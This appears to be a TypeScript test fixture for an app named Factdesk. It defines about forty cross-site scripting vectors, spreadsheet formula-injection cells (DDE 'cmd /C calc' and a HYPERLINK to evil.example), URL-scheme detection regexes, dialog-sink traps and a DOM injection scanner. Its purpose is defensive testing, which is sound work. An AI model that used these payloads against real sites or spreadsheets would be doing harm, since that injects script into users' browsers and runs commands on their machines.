/**
 * A corpus of cross-site scripting vectors, written for Factdesk's surfaces: markup that runs script when parsed as
 * HTML, SVG or MathML (including parser round trips that mutate), URLs that run script when followed, CSS that loads,
 * template syntax a client framework might evaluate, and cells a spreadsheet would run as formulas.
 *
 * Every vector calls a recognisable sink with its own id (`alert('xss-07')`), so a test that catches a dialog, a
 * console line or a call of a stubbed sink can say which vector fired.
 */

export type XssVector = {
  /** "xss-07": what the vector's sink is called with. */
  id: string;
  /** What it tries, in a few words. */
  label: string;
  payload: string;
  /** "markup": text a renderer must escape; "url": an address a link must refuse; "formula": a spreadsheet cell. */
  kind: "markup" | "url" | "formula";
};

const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

/** The sink of vector `n`: a call whose argument names the vector. */
const sink = (n: number, fn = "alert") => `${fn}('xss-${String(n).padStart(2, "0")}')`;

// Each payload is built from its sink `s` (e.g. alert('xss-07')), its id and its number.
const V: [label: string, kind: XssVector["kind"], payload: (s: string, id: string, n: number) => string][] = [
  ["script element", "markup", (s) => `<script>${s}</script>`],
  ["img onerror", "markup", (s) => `<img src=x onerror=${s}>`],
  ["svg onload", "markup", (s) => `<svg onload=${s}>`],
  ["script inside svg", "markup", (s) => `<svg><script>${s}</script></svg>`],
  ["javascript: URL", "url", (s) => `javascript:${s}`],
  ["javascript: URL, mixed case", "url", (s) => `JaVaScRiPt:${s}`],
  ["javascript: URL, tab as an entity", "url", (s) => `java&#x09;script:${s}`],
  ["javascript: URL, raw tab and newline", "url", (s) => `java\tscr\nipt:${s}`],
  ["data: URL with an HTML page", "url", (s) => `data:text/html;base64,${base64(`<script>${s}</script>`)}`],
  ["link to javascript:", "markup", (s) => `<a href="javascript:${s}">open the minutes</a>`],
  ["iframe srcdoc", "markup", (s) => `<iframe srcdoc="<script>${s}</script>"></iframe>`],
  ["style @import of javascript:", "markup", (s) => `<style>@import 'javascript:${s}';</style>`],
  ["style attribute url(javascript:)", "markup", (s) => `<div style="background:url(javascript:${s})">styled</div>`],
  ["mutation XSS through math, table and mglyph", "markup", (s) => `<math><mtext><table><mglyph><style><img src=x onerror=${s}>`],
  ["mutation XSS through noscript", "markup", (s) => `<noscript><p title="</noscript><img src=x onerror=${s}>">`],
  ["attribute breakout", "markup", (s) => `"><img src=x onerror=${s}>`],
  ["textarea breakout", "markup", (s) => `</textarea><script>${s}</script>`],
  ["template expression", "markup", (s) => `{{constructor.constructor("${s.replace(/'/g, "\\'")}")()}}`],
  ["details ontoggle", "markup", (s) => `<details open ontoggle=${s}>details</details>`],
  ["form button formaction", "markup", (s) => `<form><button formaction=javascript:${s}>go</button></form>`],
  ["input autofocus onfocus", "markup", (s) => `<input autofocus onfocus=${s}>`],
  ["object data javascript:", "markup", (s) => `<object data="javascript:${s}"></object>`],
  ["embed of a data: page", "markup", (s) => `<embed src="data:text/html,<script>${s}</script>">`],
  ["meta refresh to javascript:", "markup", (s) => `<meta http-equiv="refresh" content="0;url=javascript:${s}">`],
  ["svg animate sets href", "markup", (s) => `<svg><a><animate attributeName=href values=javascript:${s} /><text y=20>tap</text></a></svg>`],
  ["single-quoted attribute breakout", "markup", (s) => `' onmouseover='${s.replace(/'/g, '"')}' x='`],
  ["closing a script block", "markup", (s) => `</script><script>${s}</script>`],
  ["Markdown link to javascript:", "markup", (s) => `[the minutes](javascript:${s})`],
  ["javascript: as HTML entities", "markup", (s) => `<a href="&#106;&#97;vascript:${s}">entities</a>`],
  ["video source onerror", "markup", (s) => `<video><source onerror=${s}></video>`],
  ["base href to javascript:", "markup", (s) => `<base href="javascript:${s}//">`],
  ["SVG use of a data: document", "markup", (s) => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror="${s}"/></svg>`)}#x"/></svg>`],
  ["javascript: after control characters", "url", (s) => `\u0001 javascript:${s}`],
  ["vbscript: URL", "url", (s) => `vbscript:msgbox("${s}")`],
  ["confirm through an event on body", "markup", (_, _id, n) => `<body onload=${sink(n, "confirm")}>`],
  ["prompt through an unquoted onclick", "markup", (_, _id, n) => `<b onclick=${sink(n, "prompt")}>bold</b>`],
  ["spreadsheet HYPERLINK formula", "formula", (_, id) => `=HYPERLINK("https://evil.example/?${id}","open")`],
  ["spreadsheet DDE command", "formula", (_, id) => `+cmd|' /C calc'!A0 ${id}`],
  ["spreadsheet formula after a minus", "formula", (_, id) => `-2+3+cmd|' /C calc'!A0 ${id}`],
  ["spreadsheet formula after @", "formula", (_, id) => `@SUM(1+1)*cmd|' /C calc'!A0 ${id}`],
  ["spreadsheet formula after a tab", "formula", (_, id) => `\t=1+1 ${id}`],
  ["spreadsheet formula after a carriage return", "formula", (_, id) => `\r=1+1 ${id}`],
];

export const XSS_VECTORS: XssVector[] = V.map(([label, kind, payload], i) => {
  const n = i + 1;
  const id = `xss-${String(n).padStart(2, "0")}`;
  return { id, label, kind, payload: payload(sink(n), id, n) };
});

export const MARKUP_VECTORS = XSS_VECTORS.filter((v) => v.kind === "markup");
export const URL_VECTORS = XSS_VECTORS.filter((v) => v.kind === "url");
export const FORMULA_VECTORS = XSS_VECTORS.filter((v) => v.kind === "formula");

/** Schemes that run or render something when a link is followed; only http(s) may be a link's target. */
export const DANGEROUS_URL = /^[\s\u0000-\u001f]*(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|d\s*a\s*t\s*a)\s*:/i;

/** A spreadsheet reads a cell that starts with one of these as a formula. */
export const FORMULA_START = /^[=+\-@\t\r]/;

declare global {
  interface Window {
    __xss?: string[];
  }
}

/**
 * Runs in every frame before the page's own scripts (Playwright's addInitScript): the dialog sinks are replaced by
 * functions that record the call in `window.__xss` and say so on the console (which the test hears from any frame),
 * and blocked-by-policy events are reported the same way. Self-contained: it is serialized into the page.
 */
export function installXssTraps(): void {
  window.__xss = [];
  const record = (what: string) => {
    window.__xss!.push(what);
    console.log(`xss fired: ${what}`);
  };
  for (const name of ["alert", "confirm", "prompt", "print"] as const) {
    Object.defineProperty(window, name, { configurable: true, value: (...args: unknown[]) => (record(`${name}(${args.map(String).join(", ")})`), null) });
  }
  document.addEventListener("securitypolicyviolation", (event) => {
    if (/xss-/.test(event.sample ?? "")) record(`blocked by CSP only: ${event.violatedDirective} ${event.sample}`);
  });
}

/**
 * Runs in the page: elements and attributes that came from a vector and could run or load something. Next.js's own
 * inline scripts carry the page's data (vectors included, as escaped JSON strings); those are recognised and skipped.
 */
export function scanForInjection(): string[] {
  const found: string[] = [];
  const dangerousUrl = /^[\s\u0000-\u001f]*(?:javascript|vbscript|data):/i;
  const show = (element: Element) => element.outerHTML.slice(0, 120);
  for (const element of Array.from(document.querySelectorAll("*"))) {
    const tag = element.tagName.toLowerCase();
    for (const { name, value } of Array.from(element.attributes)) {
      if (/^on/i.test(name) && /xss-/.test(value)) found.push(`event handler ${name}: ${show(element)}`);
      if (/^(href|src|action|formaction|data|xlink:href|srcdoc|poster|background|values)$/i.test(name) && (dangerousUrl.test(value) || /xss-/.test(name === "srcdoc" ? value : ""))) {
        found.push(`${name}=${value.slice(0, 60)} on ${show(element)}`);
      }
      if (name === "style" && /javascript:|expression\(/i.test(value)) found.push(`style ${value.slice(0, 60)}`);
    }
    const text = element.textContent ?? "";
    if (tag === "script" && /xss-/.test(text) && !/self\.__next_f/.test(text)) found.push(`script: ${text.slice(0, 120)}`);
    if (["iframe", "object", "embed", "base", "frame"].includes(tag)) found.push(`<${tag}>: ${show(element)}`);
    if (tag === "meta" && /refresh/i.test(element.getAttribute("http-equiv") ?? "")) found.push(`meta refresh: ${show(element)}`);
    if (tag === "style" && /xss-/.test(text)) found.push(`style element from a vector: ${text.slice(0, 80)}`);
  }
  return found;
}
